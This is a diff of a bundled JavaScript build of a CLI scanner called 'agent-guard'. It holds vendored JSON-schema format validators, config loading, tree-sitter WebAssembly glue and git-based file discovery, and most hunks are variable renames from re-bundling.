+      // http://www.w3.org/TR/html5/forms.html#valid-e-mail-address (search for 'wilful violation')
+      email: /^[a-z0-9.!#$%&'*+/=?^_`{|}~-]+@[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)*$/i
+    };
+    exports.formatNames = Object.keys(exports.fullFormats);
+    function isLeapYear(year) {
+      return year % 4 === 0 && (year % 100 !== 0 || year % 400 === 0);
+    }
+    var DATE = /^(\d\d\d\d)-(\d\d)-(\d\d)$/;
+    var DAYS = [0, 31, 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];
+    function date(str2) {
+      const matches2 = DATE.exec(str2);
+      if (!matches2)
+        return false;
+      const year = +matches2[1];
+      const month = +matches2[2];
+      const day = +matches2[3];
+      return month >= 1 && month <= 12 && day >= 1 && day <= (month === 2 && isLeapYear(year) ? 29 : DAYS[month]);
+    }
+    function compareDate(d1, d2) {
+      if (!(d1 && d2))
+        return void 0;
+      if (d1 > d2)
+        return 1;
+      if (d1 < d2)
+        return -1;
+      return 0;
+    }
+    var TIME = /^(\d\d):(\d\d):(\d\d(?:\.\d+)?)(z|([+-])(\d\d)(?::?(\d\d))?)?$/i;
+    function getTime(strictTimeZone) {
+      return function time(str2) {
+        const matches2 = TIME.exec(str2);
+        if (!matches2)
+          return false;
+        const hr = +matches2[1];
+        const min = +matches2[2];
+        const sec = +matches2[3];
+        const tz = matches2[4];
+        const tzSign = matches2[5] === "-" ? -1 : 1;
+        const tzH = +(matches2[6] || 0);
+        const tzM = +(matches2[7] || 0);
+        if (tzH > 23 || tzM > 59 || strictTimeZone && !tz)
+          return false;
+        if (hr <= 23 && min <= 59 && sec < 60)
+          return true;
+        const utcMin = min - tzM * tzSign;
+        const utcHr = hr - tzH * tzSign - (utcMin < 0 ? 1 : 0);
+        return (utcHr === 23 || utcHr === -1) && (utcMin === 59 || utcMin === -1) && sec < 61;
+      };
+    }
+    function compareTime(s1, s2) {
+      if (!(s1 && s2))
+        return void 0;
+      const t1 = (/* @__PURE__ */ new Date("2020-01-01T" + s1)).valueOf();
+      const t2 = (/* @__PURE__ */ new Date("2020-01-01T" + s2)).valueOf();
+      if (!(t1 && t2))
+        return void 0;
+      return t1 - t2;
+    }
+    function compareIsoTime(t1, t2) {
+      if (!(t1 && t2))
+        return void 0;
+      const a1 = TIME.exec(t1);
+      const a2 = TIME.exec(t2);
+      if (!(a1 && a2))
+        return void 0;
+      t1 = a1[1] + a1[2] + a1[3];
+      t2 = a2[1] + a2[2] + a2[3];
+      if (t1 > t2)
+        return 1;
+      if (t1 < t2)
+        return -1;
+      return 0;
+    }
+    var DATE_TIME_SEPARATOR = /t|\s/i;
+    function getDateTime(strictTimeZone) {
+      const time = getTime(strictTimeZone);
+      return function date_time(str2) {
+        const dateTime = str2.split(DATE_TIME_SEPARATOR);
+        return dateTime.length === 2 && date(dateTime[0]) && time(dateTime[1]);
+      };
+    }
+    function compareDateTime(dt1, dt2) {
+      if (!(dt1 && dt2))
+        return void 0;
+      const d1 = new Date(dt1).valueOf();
+      const d2 = new Date(dt2).valueOf();
+      if (!(d1 && d2))
+        return void 0;
+      return d1 - d2;
+    }
+    function compareIsoDateTime(dt1, dt2) {
+      if (!(dt1 && dt2))
+        return void 0;
+      const [d1, t1] = dt1.split(DATE_TIME_SEPARATOR);
+      const [d2, t2] = dt2.split(DATE_TIME_SEPARATOR);
+      const res = compareDate(d1, d2);
+      if (res === void 0)
+        return void 0;
+      return res || compareTime(t1, t2);
+    }
+    var NOT_URI_FRAGMENT = /\/|:/;
+    var URI = /^(?:[a-z][a-z0-9+\-.]*:)(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'()*+,;=:@]|%[0-9a-f]{2})*)*)(?:\?(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i;
+    function uri(str2) {
+      return NOT_URI_FRAGMENT.test(str2) && URI.test(str2);
+    }
+    var BYTE = /^(?:[A-Za-z0-9+/]{4})*(?:[A-Za-z0-9+/]{2}==|[A-Za-z0-9+/]{3}=)?$/gm;
+    function byte(str2) {
+      BYTE.lastIndex = 0;
+      return BYTE.test(str2);
+    }
+    var MIN_INT32 = -(2 ** 31);
+    var MAX_INT32 = 2 ** 31 - 1;
+    function validateInt32(value) {
+      return Number.isInteger(value) && value <= MAX_INT32 && value >= MIN_INT32;
+    }
+    function validateInt64(value) {
+      return Number.isInteger(value);
+    }
+    function validateNumber() {
+      return true;
+    }
+    var Z_ANCHOR = /[^\\]\\Z/;
+    function regex(str2) {
+      if (Z_ANCHOR.test(str2))
+        return false;
+      try {
+        new RegExp(str2);
+        return true;
+      } catch (e) {
+        return false;
+      }
+    }
+  }
+});
+
+// node_modules/ajv-formats/dist/limit.js
+var require_limit = __commonJS({
+  "node_modules/ajv-formats/dist/limit.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.formatLimitDefinition = void 0;
+    var ajv_1 = require_ajv();
+    var codegen_1 = require_codegen();
+    var ops = codegen_1.operators;
+    var KWDs = {
+      formatMaximum: { okStr: "<=", ok: ops.LTE, fail: ops.GT },
+      formatMinimum: { okStr: ">=", ok: ops.GTE, fail: ops.LT },
+      formatExclusiveMaximum: { okStr: "<", ok: ops.LT, fail: ops.GTE },
+      formatExclusiveMinimum: { okStr: ">", ok: ops.GT, fail: ops.LTE }
+    };
+    var error = {
+      message: ({ keyword, schemaCode }) => (0, codegen_1.str)`should be ${KWDs[keyword].okStr} ${schemaCode}`,
+      params: ({ keyword, schemaCode }) => (0, codegen_1._)`{comparison: ${KWDs[keyword].okStr}, limit: ${schemaCode}}`
+    };
+    exports.formatLimitDefinition = {
+      keyword: Object.keys(KWDs),
+      type: "string",
+      schemaType: "string",
+      $data: true,
+      error,
+      code(cxt) {
+        const { gen, data, schemaCode, keyword, it } = cxt;
+        const { opts, self: self2 } = it;
+        if (!opts.validateFormats)
+          return;
+        const fCxt = new ajv_1.KeywordCxt(it, self2.RULES.all.format.definition, "format");
+        if (fCxt.$data)
+          validate$DataFormat();
+        else
+          validateFormat();
+        function validate$DataFormat() {
+          const fmts = gen.scopeValue("formats", {
+            ref: self2.formats,
+            code: opts.code.formats
+          });
+          const fmt = gen.const("fmt", (0, codegen_1._)`${fmts}[${fCxt.schemaCode}]`);
+          cxt.fail$data((0, codegen_1.or)((0, codegen_1._)`typeof ${fmt} != "object"`, (0, codegen_1._)`${fmt} instanceof RegExp`, (0, codegen_1._)`typeof ${fmt}.compare != "function"`, compareCode(fmt)));
+        }
+        function validateFormat() {
+          const format2 = fCxt.schema;
+          const fmtDef = self2.formats[format2];
+          if (!fmtDef || fmtDef === true)
+            return;
+          if (typeof fmtDef != "object" || fmtDef instanceof RegExp || typeof fmtDef.compare != "function") {
+            throw new Error(`"${keyword}": format "${format2}" does not define "compare" function`);
+          }
+          const fmt = gen.scopeValue("formats", {
+            key: format2,
+            ref: fmtDef,
+            code: opts.code.formats ? (0, codegen_1._)`${opts.code.formats}${(0, codegen_1.getProperty)(format2)}` : void 0
+          });
+          cxt.fail$data(compareCode(fmt));
+        }
+        function compareCode(fmt) {
+          return (0, codegen_1._)`${fmt}.compare(${data}, ${schemaCode}) ${KWDs[keyword].fail} 0`;
+        }
+      },
+      dependencies: ["format"]
+    };
+    var formatLimitPlugin = (ajv) => {
+      ajv.addKeyword(exports.formatLimitDefinition);
+      return ajv;
+    };
+    exports.default = formatLimitPlugin;
+  }
+});
+
+// node_modules/ajv-formats/dist/index.js
+var require_dist2 = __commonJS({
+  "node_modules/ajv-formats/dist/index.js"(exports, module2) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    var formats_1 = require_formats();
+    var limit_1 = require_limit();
+    var codegen_1 = require_codegen();
+    var fullName = new codegen_1.Name("fullFormats");
+    var fastName = new codegen_1.Name("fastFormats");
+    var formatsPlugin = (ajv, opts = { keywords: true }) => {
+      if (Array.isArray(opts)) {
+        addFormats2(ajv, opts, formats_1.fullFormats, fullName);
+        return ajv;
+      }
+      const [formats, exportName] = opts.mode === "fast" ? [formats_1.fastFormats, fastName] : [formats_1.fullFormats, fullName];
+      const list2 = opts.formats || formats_1.formatNames;
+      addFormats2(ajv, list2, formats, exportName);
+      if (opts.keywords)
+        (0, limit_1.default)(ajv);
+      return ajv;
+    };
+    formatsPlugin.get = (name2, mode = "full") => {
+      const formats = mode === "fast" ? formats_1.fastFormats : formats_1.fullFormats;
+      const f = formats[name2];
+      if (!f)
+        throw new Error(`Unknown format "${name2}"`);
+      return f;
+    };
+    function addFormats2(ajv, list2, fs2, exportName) {
+      var _a;
+      var _b;
+      (_a = (_b = ajv.opts.code).formats) !== null && _a !== void 0 ? _a : _b.formats = (0, codegen_1._)`require("ajv-formats/dist/formats").${exportName}`;
+      for (const f of list2)
+        ajv.addFormat(f, fs2[f]);
+    }
+    module2.exports = exports = formatsPlugin;
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.default = formatsPlugin;
   }
 });
 
@@ -16095,22 +18127,14 @@ var VERSION = "0.1.0";
 var TOOL_NAME = "agent-guard";
 var INFORMATION_URI = "https://github.com/org/agent-guard";
 
-// src/cli/commands/demo.ts
-import { randomInt } from "node:crypto";
-import { cpSync, mkdtempSync, readdirSync as readdirSync2, readFileSync as readFileSync2, rmSync as rmSync2, statSync as statSync2, writeFileSync as writeFileSync2 } from "node:fs";
-import { tmpdir } from "node:os";
-import { join as join6 } from "node:path";
+// src/cli/commands/baseline.ts
+import { existsSync as existsSync3 } from "node:fs";
+import { isAbsolute as isAbsolute2, join as join5, relative as relative2, resolve as resolve3 } from "node:path";
 
-// src/core/assets.ts
-import { existsSync } from "node:fs";
-import { dirname, join, resolve } from "node:path";
-import { fileURLToPath } from "node:url";
-function assetPath(relative2) {
-  const here = dirname(fileURLToPath(import.meta.url));
-  const bundled = join(here, relative2);
-  if (existsSync(bundled)) return bundled;
-  return resolve(here, "..", "..", relative2);
-}
+// src/core/baseline.ts
+import { randomBytes } from "node:crypto";
+import { readFileSync as readFileSync2, renameSync, rmSync, writeFileSync } from "node:fs";
+import { basename as basename2, dirname as dirname2, join as join4, resolve as resolve2 } from "node:path";
 
 // src/core/engine.ts
 var import_picomatch2 = __toESM(require_picomatch2(), 1);
@@ -16118,8 +18142,8 @@ var import_picomatch2 = __toESM(require_picomatch2(), 1);
 // src/config/load.ts
 var import_ajv = __toESM(require_ajv(), 1);
 var import_yaml = __toESM(require_dist(), 1);
-import { existsSync as existsSync2, readFileSync } from "node:fs";
-import { basename, join as join2 } from "node:path";
+import { existsSync, readFileSync } from "node:fs";
+import { basename, join } from "node:path";
 
 // src/config/schema.ts
 var severityOrOff = { enum: ["error", "warning", "note", "off"] };
@@ -16219,8 +18243,8 @@ function defaultConfig() {
 var CONFIG_FILE_NAMES = [".agent-guard.yml", ".agent-guard.yaml", ".agent-guard.json"];
 function findConfigFile(root) {
   for (const name2 of CONFIG_FILE_NAMES) {
-    const candidate = join2(root, name2);
-    if (existsSync2(candidate)) return candidate;
+    const candidate = join(root, name2);
+    if (existsSync(candidate)) return candidate;
   }
   return null;
 }
@@ -16239,9 +18263,9 @@ function describe(error, prefix = "", schema = configSchema) {
   switch (error.keyword) {
     case "additionalProperties": {
       const extra = error.params.additionalProperty;
-      const where = key === "(top level)" ? extra : `${key}.${extra}`;
+      const where2 = key === "(top level)" ? extra : `${key}.${extra}`;
       const allowed = allowedKeys(error.schemaPath, schema);
-      return `unknown key "${where}"${allowed ? ` (expected one of: ${allowed})` : ""}`;
+      return `unknown key "${where2}"${allowed ? ` (expected one of: ${allowed})` : ""}`;
     }
     case "enum":
       return `key "${key}": expected one of ${error.params.allowedValues.map((v) => JSON.stringify(v)).join(", ")}`;
@@ -16283,12 +18307,12 @@ function parseText(file, text) {
   if (doc.errors.length > 0) {
     const first = doc.errors[0];
     const line = first.linePos?.[0];
-    const where = line ? ` at line ${line.line}, column ${line.col}` : "";
-    throw new UsageError(`${basename(file)}: YAML syntax error${where}: ${first.message.split("\n")[0].replace(/ at line \d+, column \d+:?$/, "")}`);
+    const where2 = line ? ` at line ${line.line}, column ${line.col}` : "";
+    throw new UsageError(`${basename(file)}: YAML syntax error${where2}: ${first.message.split("\n")[0].replace(/ at line \d+, column \d+:?$/, "")}`);
   }
   return doc.toJS() ?? {};
 }
-function loadConfig({ configFile, root, rules }) {
+function loadConfig({ configFile, root, rules: rules2 }) {
   const file = configFile ?? findConfigFile(root);
   const config = defaultConfig();
   if (!file) return config;
@@ -16305,15 +18329,15 @@ function loadConfig({ configFile, root, rules }) {
   }
   const problems = summarise(validate(data));
   const raw = data;
-  const known = new Map(rules.map((r) => [r.id, r]));
+  const known = new Map(rules2.map((r2) => [r2.id, r2]));
   for (const [id, setting] of Object.entries(raw.rules ?? {})) {
-    const meta = known.get(id);
-    if (!meta) {
+    const meta9 = known.get(id);
+    if (!meta9) {
       if (/^(secret|tool-input|rate-limit|tool-payload)\//.test(id)) problems.push(`key "rules.${id}": unknown rule (run "agent-guard rules" for the list)`);
       continue;
     }
     if (setting && typeof setting === "object" && "options" in setting) {
-      problems.push(...optionProblems(meta, setting.options));
+      problems.push(...optionProblems(meta9, setting.options));
     }
   }
   if (problems.length > 0) {
@@ -16332,25 +18356,25 @@ function loadConfig({ configFile, root, rules }) {
   return config;
 }
 var optionValidators = /* @__PURE__ */ new Map();
-function optionProblems(meta, options) {
-  if (!meta.optionsSchema) {
-    return options && Object.keys(options).length > 0 ? [`key "rules.${meta.id}.options": this rule takes no options`] : [];
+function optionProblems(meta9, options) {
+  if (!meta9.optionsSchema) {
+    return options && Object.keys(options).length > 0 ? [`key "rules.${meta9.id}.options": this rule takes no options`] : [];
   }
-  let entry = optionValidators.get(meta.id);
+  let entry = optionValidators.get(meta9.id);
   if (!entry) {
-    const schema = { type: "object", additionalProperties: false, ...meta.optionsSchema };
+    const schema = { type: "object", additionalProperties: false, ...meta9.optionsSchema };
     entry = { schema, validate: new import_ajv.Ajv({ allErrors: true, strict: false }).compile(schema) };
-    optionValidators.set(meta.id, entry);
+    optionValidators.set(meta9.id, entry);
   }
   if (entry.validate(options)) return [];
-  return (entry.validate.errors ?? []).map((e) => describe(e, `rules.${meta.id}.options`, entry.schema));
+  return (entry.validate.errors ?? []).map((e) => describe(e, `rules.${meta9.id}.options`, entry.schema));
 }
 
 // src/parsing/parsers.ts
-import { existsSync as existsSync3 } from "node:fs";
+import { existsSync as existsSync2 } from "node:fs";
 import { createRequire } from "node:module";
-import { dirname as dirname2, join as join3 } from "node:path";
-import { fileURLToPath as fileURLToPath2 } from "node:url";
+import { dirname, join as join2 } from "node:path";
+import { fileURLToPath } from "node:url";
 
 // node_modules/web-tree-sitter/web-tree-sitter.js
 var __defProp2 = Object.defineProperty;
@@ -17759,11 +19783,11 @@ var Language = class _Language {
   /**
    * Get the node type id for a node type name.
    */
-  idForNodeType(type, named) {
+  idForNodeType(type, named3) {
     const typeLength = C.lengthBytesUTF8(type);
     const typeAddress = C._malloc(typeLength + 1);
     C.stringToUTF8(type, typeAddress, typeLength + 1);
-    const result = C._ts_language_symbol_for_name(this[0], typeAddress, typeLength, named ? 1 : 0);
+    const result = C._ts_language_symbol_for_name(this[0], typeAddress, typeLength, named3 ? 1 : 0);
     C._free(typeAddress);
     return result || null;
   }
@@ -17891,13 +19915,13 @@ ${body2}`);
   }
   static loadFromWasmExports(mod, { sync }) {
     const symbolNames = Object.keys(mod);
-    const functionName = symbolNames.find((key) => LANGUAGE_FUNCTION_REGEX.test(key) && !key.includes("external_scanner_"));
-    if (!functionName) {
+    const functionName2 = symbolNames.find((key) => LANGUAGE_FUNCTION_REGEX.test(key) && !key.includes("external_scanner_"));
+    if (!functionName2) {
       console.log(`Couldn't find language function in Wasm file. Symbols:
 ${JSON.stringify(symbolNames, null, 2)}`);
       throw new Error(`Language.${sync ? "loadSync" : "load"} failed: no language function found in Wasm file`);
     }
-    const languageAddress = mod[functionName]();
+    const languageAddress = mod[functionName2]();
     return new _Language(INTERNAL, languageAddress);
   }
   /**
@@ -17930,11 +19954,11 @@ async function Module2(moduleArg = {}) {
   }, "quit_");
   var _scriptName = import.meta.url;
   var scriptDirectory = "";
-  function locateFile(path) {
+  function locateFile(path2) {
     if (Module["locateFile"]) {
-      return Module["locateFile"](path, scriptDirectory);
+      return Module["locateFile"](path2, scriptDirectory);
     }
-    return scriptDirectory + path;
+    return scriptDirectory + path2;
   }
   __name(locateFile, "locateFile");
   var readAsync, readBinary;
@@ -17981,13 +20005,13 @@ async function Module2(moduleArg = {}) {
       }
       readAsync = /* @__PURE__ */ __name(async (url) => {
         if (isFileURI(url)) {
-          return new Promise((resolve7, reject) => {
+          return new Promise((resolve12, reject) => {
             var xhr = new XMLHttpRequest();
             xhr.open("GET", url, true);
             xhr.responseType = "arraybuffer";
             xhr.onload = () => {
               if (xhr.status == 200 || xhr.status == 0 && xhr.response) {
-                resolve7(xhr.response);
+                resolve12(xhr.response);
                 return;
               }
               reject(xhr.status);
@@ -18183,9 +20207,9 @@ async function Module2(moduleArg = {}) {
     __name(receiveInstantiationResult, "receiveInstantiationResult");
     var info2 = getWasmImports();
     if (Module["instantiateWasm"]) {
-      return new Promise((resolve7, reject) => {
+      return new Promise((resolve12, reject) => {
         Module["instantiateWasm"](info2, (mod, inst) => {
-          resolve7(receiveInstance(mod, inst));
+          resolve12(receiveInstance(mod, inst));
         });
       });
     }
@@ -18256,16 +20280,16 @@ async function Module2(moduleArg = {}) {
     if (endPtr - idx > 16 && heapOrArray.buffer && UTF8Decoder) {
       return UTF8Decoder.decode(heapOrArray.subarray(idx, endPtr));
     }
-    var str = "";
+    var str2 = "";
     while (idx < endPtr) {
       var u0 = heapOrArray[idx++];
       if (!(u0 & 128)) {
-        str += String.fromCharCode(u0);
+        str2 += String.fromCharCode(u0);
         continue;
       }
       var u1 = heapOrArray[idx++] & 63;
       if ((u0 & 224) == 192) {
-        str += String.fromCharCode((u0 & 31) << 6 | u1);
+        str2 += String.fromCharCode((u0 & 31) << 6 | u1);
         continue;
       }
       var u2 = heapOrArray[idx++] & 63;
@@ -18275,13 +20299,13 @@ async function Module2(moduleArg = {}) {
         u0 = (u0 & 7) << 18 | u1 << 12 | u2 << 6 | heapOrArray[idx++] & 63;
       }
       if (u0 < 65536) {
-        str += String.fromCharCode(u0);
+        str2 += String.fromCharCode(u0);
       } else {
         var ch = u0 - 65536;
-        str += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
+        str2 += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
       }
     }
-    return str;
+    return str2;
   }, "UTF8ArrayToString");
   var getDylinkMetadata = /* @__PURE__ */ __name((binary2) => {
     var offset = 0;
@@ -19140,10 +21164,10 @@ async function Module2(moduleArg = {}) {
     }
     quit_(1, e);
   }, "handleException");
-  var lengthBytesUTF8 = /* @__PURE__ */ __name((str) => {
+  var lengthBytesUTF8 = /* @__PURE__ */ __name((str2) => {
     var len = 0;
-    for (var i2 = 0; i2 < str.length; ++i2) {
-      var c = str.charCodeAt(i2);
+    for (var i2 = 0; i2 < str2.length; ++i2) {
+      var c = str2.charCodeAt(i2);
       if (c <= 127) {
         len++;
       } else if (c <= 2047) {
@@ -19157,12 +21181,12 @@ async function Module2(moduleArg = {}) {
     }
     return len;
   }, "lengthBytesUTF8");
-  var stringToUTF8Array = /* @__PURE__ */ __name((str, heap, outIdx, maxBytesToWrite) => {
+  var stringToUTF8Array = /* @__PURE__ */ __name((str2, heap, outIdx, maxBytesToWrite) => {
     if (!(maxBytesToWrite > 0)) return 0;
     var startIdx = outIdx;
     var endIdx = outIdx + maxBytesToWrite - 1;
-    for (var i2 = 0; i2 < str.length; ++i2) {
-      var u = str.codePointAt(i2);
+    for (var i2 = 0; i2 < str2.length; ++i2) {
+      var u = str2.codePointAt(i2);
       if (u <= 127) {
         if (outIdx >= endIdx) break;
         heap[outIdx++] = u;
@@ -19187,30 +21211,30 @@ async function Module2(moduleArg = {}) {
     heap[outIdx] = 0;
     return outIdx - startIdx;
   }, "stringToUTF8Array");
-  var stringToUTF8 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => stringToUTF8Array(str, HEAPU8, outPtr, maxBytesToWrite), "stringToUTF8");
+  var stringToUTF8 = /* @__PURE__ */ __name((str2, outPtr, maxBytesToWrite) => stringToUTF8Array(str2, HEAPU8, outPtr, maxBytesToWrite), "stringToUTF8");
   var stackAlloc = /* @__PURE__ */ __name((sz) => __emscripten_stack_alloc(sz), "stackAlloc");
-  var stringToUTF8OnStack = /* @__PURE__ */ __name((str) => {
-    var size = lengthBytesUTF8(str) + 1;
+  var stringToUTF8OnStack = /* @__PURE__ */ __name((str2) => {
+    var size = lengthBytesUTF8(str2) + 1;
     var ret = stackAlloc(size);
-    stringToUTF8(str, ret, size);
+    stringToUTF8(str2, ret, size);
     return ret;
   }, "stringToUTF8OnStack");
   var AsciiToString = /* @__PURE__ */ __name((ptr) => {
-    var str = "";
+    var str2 = "";
     while (1) {
       var ch = HEAPU8[ptr++];
-      if (!ch) return str;
-      str += String.fromCharCode(ch);
+      if (!ch) return str2;
+      str2 += String.fromCharCode(ch);
     }
   }, "AsciiToString");
-  var stringToUTF16 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => {
+  var stringToUTF16 = /* @__PURE__ */ __name((str2, outPtr, maxBytesToWrite) => {
     maxBytesToWrite ??= 2147483647;
     if (maxBytesToWrite < 2) return 0;
     maxBytesToWrite -= 2;
     var startPtr = outPtr;
-    var numCharsToWrite = maxBytesToWrite < str.length * 2 ? maxBytesToWrite / 2 : str.length;
+    var numCharsToWrite = maxBytesToWrite < str2.length * 2 ? maxBytesToWrite / 2 : str2.length;
     for (var i2 = 0; i2 < numCharsToWrite; ++i2) {
-      var codeUnit = str.charCodeAt(i2);
+      var codeUnit = str2.charCodeAt(i2);
       LE_HEAP_STORE_I16((outPtr >> 1) * 2, codeUnit);
       outPtr += 2;
     }
@@ -19461,8 +21485,8 @@ async function Module2(moduleArg = {}) {
     var argc = args2.length;
     var argv = stackAlloc((argc + 1) * 4);
     var argv_ptr = argv;
-    args2.forEach((arg) => {
-      LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, stringToUTF8OnStack(arg));
+    args2.forEach((arg2) => {
+      LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, stringToUTF8OnStack(arg2));
       argv_ptr += 4;
     });
     LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, 0);
@@ -19518,8 +21542,8 @@ async function Module2(moduleArg = {}) {
   if (runtimeInitialized) {
     moduleRtn = Module;
   } else {
-    moduleRtn = new Promise((resolve7, reject) => {
-      readyPromiseResolve = resolve7;
+    moduleRtn = new Promise((resolve12, reject) => {
+      readyPromiseResolve = resolve12;
       readyPromiseReject = reject;
     });
   }
@@ -19816,9 +21840,9 @@ function parseAnyPredicate(steps, index, operator, textPredicates) {
     });
   } else {
     const captureName = steps[1].name;
-    const stringValue = steps[2].value;
-    const matches2 = /* @__PURE__ */ __name((n) => n.text === stringValue, "matches");
-    const doesNotMatch = /* @__PURE__ */ __name((n) => n.text !== stringValue, "doesNotMatch");
+    const stringValue2 = steps[2].value;
+    const matches2 = /* @__PURE__ */ __name((n) => n.text === stringValue2, "matches");
+    const doesNotMatch = /* @__PURE__ */ __name((n) => n.text !== stringValue2, "doesNotMatch");
     textPredicates[index].push((captures) => {
       const nodes = [];
       for (const c of captures) {
@@ -20403,9 +22427,9 @@ var GRAMMAR_FILES = {
   tsx: "tree-sitter-tsx.wasm"
 };
 function wasmPath(file) {
-  const here = dirname2(fileURLToPath2(import.meta.url));
-  const bundled = join3(here, "wasm", file);
-  if (existsSync3(bundled)) return bundled;
+  const here = dirname(fileURLToPath(import.meta.url));
+  const bundled = join2(here, "wasm", file);
+  if (existsSync2(bundled)) return bundled;
   const require2 = createRequire(import.meta.url);
   if (file === "web-tree-sitter.wasm") return require2.resolve("web-tree-sitter/web-tree-sitter.wasm");
   return require2.resolve(`@vscode/tree-sitter-wasm/wasm/${file}`);
@@ -20451,26 +22475,26 @@ async function parseCode(language, text) {
 // src/sources/discover.ts
 import { spawnSync } from "node:child_process";
 import { lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
-import { isAbsolute, join as join4, relative, resolve as resolve2, sep } from "node:path";
+import { isAbsolute, join as join3, relative, resolve, sep } from "node:path";
 function git(cwd, args2, input) {
-  const r = spawnSync("git", args2, { cwd, input, maxBuffer: 1 << 30, env: { ...process.env, GIT_OPTIONAL_LOCKS: "0" } });
-  return { ok: r.status === 0, stdout: r.stdout ?? Buffer.alloc(0), stderr: r.stderr?.toString() ?? "" };
+  const r2 = spawnSync("git", args2, { cwd, input, maxBuffer: 1 << 30, env: { ...process.env, GIT_OPTIONAL_LOCKS: "0" } });
+  return { ok: r2.status === 0, stdout: r2.stdout ?? Buffer.alloc(0), stderr: r2.stderr?.toString() ?? "" };
 }
 function toPosix(p) {
   return sep === "/" ? p : p.split(sep).join("/");
 }
 function findRoot(scanPath) {
-  const abs = resolve2(scanPath);
+  const abs = resolve(scanPath);
   let st;
   try {
     st = statSync(abs);
   } catch {
     throw new UsageError(`path not found: ${scanPath}`);
   }
-  const dir = st.isDirectory() ? abs : resolve2(abs, "..");
-  const r = git(dir, ["rev-parse", "--show-toplevel"]);
-  if (r.ok) {
-    const top = r.stdout.toString().trim();
+  const dir = st.isDirectory() ? abs : resolve(abs, "..");
+  const r2 = git(dir, ["rev-parse", "--show-toplevel"]);
+  if (r2.ok) {
+    const top = r2.stdout.toString().trim();
     if (top) return { root: realpathSync(top), isGit: true };
   }
   return { root: realpathSync(dir), isGit: false };
@@ -20484,9 +22508,9 @@ function isIgnored(root, relPath) {
 function gitListFiles(root, relDir) {
   const args2 = ["ls-files", "-z", "--cached", "--others", "--exclude-standard", "--deduplicate"];
   if (relDir) args2.push("--", relDir);
-  const r = git(root, args2);
-  if (!r.ok) throw new UsageError(`git ls-files failed in ${root}: ${r.stderr.split("\n")[0]}`);
-  return splitZ(r.stdout);
+  const r2 = git(root, args2);
+  if (!r2.ok) throw new UsageError(`git ls-files failed in ${root}: ${r2.stderr.split("\n")[0]}`);
+  return splitZ(r2.stdout);
 }
 function walk(root, absDir, out2) {
   let entries;
@@ -20498,7 +22522,7 @@ function walk(root, absDir, out2) {
   entries.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
   for (const e of entries) {
     if (e.name === ".git") continue;
-    const abs = join4(absDir, e.name);
+    const abs = join3(absDir, e.name);
     if (e.isDirectory()) walk(root, abs, out2);
     else out2.push(toPosix(relative(root, abs)));
   }
@@ -20506,7 +22530,7 @@ function walk(root, absDir, out2) {
 function discoverFiles(root, scanPaths) {
   const rels = /* @__PURE__ */ new Set();
   for (const p of scanPaths) {
-    const abs = resolve2(p);
+    const abs = resolve(p);
     let st;
     try {
       st = lstatSync(abs);
@@ -20520,15 +22544,15 @@ function discoverFiles(root, scanPaths) {
       rels.add(relTo);
       continue;
     }
-    const list = [];
-    if (root.isGit && !(relTo && isIgnored(root.root, relTo))) list.push(...gitListFiles(root.root, relTo));
-    else walk(root.root, join4(root.root, relTo), list);
-    for (const f of list) rels.add(f);
+    const list2 = [];
+    if (root.isGit && !(relTo && isIgnored(root.root, relTo))) list2.push(...gitListFiles(root.root, relTo));
+    else walk(root.root, join3(root.root, relTo), list2);
+    for (const f of list2) rels.add(f);
   }
   const files = [];
   const skipped = [];
-  for (const path of [...rels].sort()) {
-    const absPath = join4(root.root, path);
+  for (const path2 of [...rels].sort()) {
+    const absPath = join3(root.root, path2);
     let st;
     try {
       st = lstatSync(absPath);
@@ -20539,11 +22563,11 @@ function discoverFiles(root, scanPaths) {
